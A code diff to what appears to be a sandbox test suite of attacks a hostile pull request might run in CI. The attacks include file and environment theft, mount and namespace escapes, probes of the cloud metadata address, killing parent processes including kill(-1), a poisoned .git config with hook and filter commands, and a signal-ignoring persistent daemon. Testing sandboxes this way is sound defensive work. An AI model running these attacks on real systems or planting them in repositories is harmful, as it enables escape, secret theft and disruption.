@@ -1,4 +1,5 @@
-"""A pull request that attacks: what its tests do when the preflight runs them. Each attack prints what it got."""
+"""A pull request that attacks: what its tests do when the preflight runs them. Each attack prints what it got, and
+`GOT THROUGH` where nothing else would show it."""
 
 from __future__ import annotations
 
@@ -13,7 +14,9 @@ known = json.load(open("known.json"))
 def loot(path):
     try:
         with open(path, "rb") as file:
-            sys.stdout.write(file.read(100_000).decode(errors="replace"))
+            # Not all of it: of what is printed only the end is kept.
+            lines = file.read(100_000).replace(bytes(1), b" ").decode(errors="replace").splitlines()
+            print(path, [line for line in lines if "canary-" in line])
     except OSError as error:
         print(path, error)
 
@@ -24,6 +27,9 @@ def write(path, text="poisoned"):
         print("wrote", path)
     except OSError as error:
         print(path, error)
+
+def through(worked, what):
+    print("GOT THROUGH" if worked else "refused", what, ctypes.get_errno())
 """
 
 
@@ -42,7 +48,7 @@ ATTACKS = (
         """
 for flags in (32, 32 | 4096, 32 | 4096 | 16384):
     for place in (b"/usr", b"/", b"/proc", *[path.encode() for path in known["tools"]]):
-        print(place, libc.mount(b"none", place, None, flags, None), ctypes.get_errno())
+        through(libc.mount(b"none", place, None, flags, None) == 0, place)
 subprocess.run(["mount", "-o", "remount,rw", "/"])
 for place in ("/usr", "/", *known["tools"]):
     write(os.path.join(place, "poisoned"))
@@ -79,7 +85,9 @@ print(dict(os.environ))
     Attack(
         "network",
         """
-addresses = [("127.0.0.1", known["port"]), ("169.254.169.254", 80), ("1.1.1.1", 53), ("192.168.0.1", 80)]
+addresses = [("127.0.0.1", known["port"])]
+if known["sound"]:
+    addresses += [("169.254.169.254", 80), ("1.1.1.1", 53), ("192.168.0.1", 80)]
 for address in addresses:
     with socket.socket() as door:
         door.settimeout(3)
@@ -89,11 +97,10 @@ for name in (known["socket"], "\\0" + known["abstract"]):
         try:
             door.connect(name)
             print("GOT THROUGH")
-            print(door.recv(1000))
         except OSError as error:
             print(error)
 try:
-    print(socket.getaddrinfo("example.org", 443))
+    through(known["sound"] and socket.getaddrinfo("example.org", 443), "name")
 except OSError as error:
     print(error)
 """,
@@ -101,19 +108,22 @@ except OSError as error:
     Attack(
         "nested user namespace",
         """
-for flags in (0x10000000, 0x10000000 | 0x00020000, 0x00020000, 0x40000000, 0x20000000):
-    print(hex(flags), libc.unshare(flags), ctypes.get_errno())
-print(subprocess.run(["unshare", "--user", "--map-root-user", "--mount", "id"], capture_output=True))
+def tried(command):
+    ended = subprocess.run(command, capture_output=True)
+    through(ended.returncode == 0, (command, ended.stderr))
+
+tried(["unshare", "--user", "--map-root-user", "--mount", "id"])
 if os.path.exists("/usr/bin/bwrap"):
-    inner = ["bwrap", "--ro-bind", "/", "/", "--dev", "/dev", "id"]
-    print(subprocess.run(inner, capture_output=True))
+    tried(["bwrap", "--ro-bind", "/", "/", "--dev", "/dev", "id"])
+for flags in (0x10000000 | 0x00020000, 0x10000000, 0x00020000, 0x40000000, 0x20000000):
+    through(libc.unshare(flags) == 0, hex(flags))
 """,
     ),
     Attack(
         "kill of the parent",
         """
 for number in (signal.SIGTERM, signal.SIGKILL):
-    for pid in (known["bot"], known["victim"], os.getppid(), 1):
+    for pid in (known["bot"], known["victim"], *((os.getppid(), 1) if known["sound"] else ())):
         try:
             os.kill(pid, number)
             print("signalled", pid)
@@ -121,7 +131,10 @@ for number in (signal.SIGTERM, signal.SIGKILL):
             print(pid, error)
 for pid in (known["bot"], known["victim"]):
     print(libc.ptrace(16, pid, 0, 0), ctypes.get_errno())
-os.kill(-1, signal.SIGTERM) if os.fork() == 0 else os.wait()
+print("came to its end", flush=True)
+if known["sound"]:
+    # Where the cage is broken on purpose, this would end every process of its user on the machine.
+    os.kill(-1, signal.SIGTERM) if os.fork() == 0 else os.wait()
 """,
     ),
     Attack(
@@ -140,7 +153,9 @@ write("ferry.py")
         "replaced .git",
         """
 hooks = {"fsmonitor": "./run", "hooksPath": "./hooks", "sshCommand": "./run", "pager": "./run", "editor": "./run"}
-os.makedirs(".git/hooks")
+for name in ("hooks", "objects", "refs/heads"):
+    os.makedirs(".git/" + name)
+write(".git/HEAD", "ref: refs/heads/main\\n")
 config = "[core]\\n" + "".join(f"\\t{name} = {value}\\n" for name, value in hooks.items())
 write(".git/config", config + '[filter "x"]\\n\\tsmudge = ./run\\n\\tclean = ./run\\n')
 write(".gitattributes", "* filter=x\\n")
@@ -183,11 +198,16 @@ if os.fork() == 0:
                 signal.signal(number, signal.SIG_IGN)
             except OSError:
                 pass
+        # Should it really outlive its cage.
+        signal.signal(signal.SIGALRM, signal.SIG_DFL)
+        signal.alarm(30)
         lock = os.open("alive", os.O_CREAT | os.O_RDWR, 0o666)
         fcntl.flock(lock, fcntl.LOCK_EX)
         for descriptor in (0, 1, 2):
             os.close(descriptor)
-        open("ready", "w").close()
+        with open("ready.new", "w") as ready:
+            ready.write(str(os.getpid()))
+        os.rename("ready.new", "ready")
         while True:
             signal.pause()
     os._exit(0)
